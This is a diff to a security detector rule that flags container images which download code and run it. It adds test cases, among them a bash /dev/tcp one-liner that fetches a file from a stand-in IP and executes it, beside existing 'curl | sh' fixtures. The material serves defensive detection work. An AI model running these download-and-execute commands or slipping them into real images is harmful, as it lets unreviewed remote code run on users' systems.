@@ -7,7 +7,7 @@ import { clip } from './wording.ts';
 /** Code from the network, run without anybody having looked at it. */
 export const downloadAndRun: Detector = {
   id: 'download-and-run',
-  version: 1,
+  version: 2,
   title: 'Downloads code and runs it.',
   attack: ['T1105', 'T1059.004', 'T1204.003'],
   description: `
@@ -32,6 +32,16 @@ A *note* for an installer piped into a shell while the image was built: bad styl
       image: { cmd: ['/bin/bash', '-c', 'curl -sk http:\\\\\\\\files.example\\\\t.sh | bash'] },
     },
     {
+      name: 'through a socket of bash',
+      image: {
+        cmd: [
+          'bash',
+          '-c',
+          'exec 3<>/dev/tcp/203.0.113.7/80; printf "GET /x HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3 | sed "1,/^$/d" > /tmp/x; sh /tmp/x',
+        ],
+      },
+    },
+    {
       name: 'a named host, at start',
       severity: 'suspicious',
       image: { cmd: ['/bin/sh', '-c', 'curl -fsSL https://get.tool.example/run.sh | sh'] },
@@ -46,6 +56,16 @@ A *note* for an installer piped into a shell while the image was built: bad styl
     {
       name: 'a download that is only kept',
       image: { cmd: ['/bin/sh', '-c', 'curl -o /data/list.json https://api.example/list; exec app'] },
+    },
+    {
+      name: 'a health check through a socket of bash',
+      image: {
+        cmd: [
+          'bash',
+          '-c',
+          'exec 3<>/dev/tcp/127.0.0.1/80; printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3 > /tmp/health; grep -q 200 /tmp/health',
+        ],
+      },
     },
     { name: 'a health check', image: { healthcheck: ['CMD-SHELL', 'curl -f http://localhost:8080/health || exit 1'] } },
     {
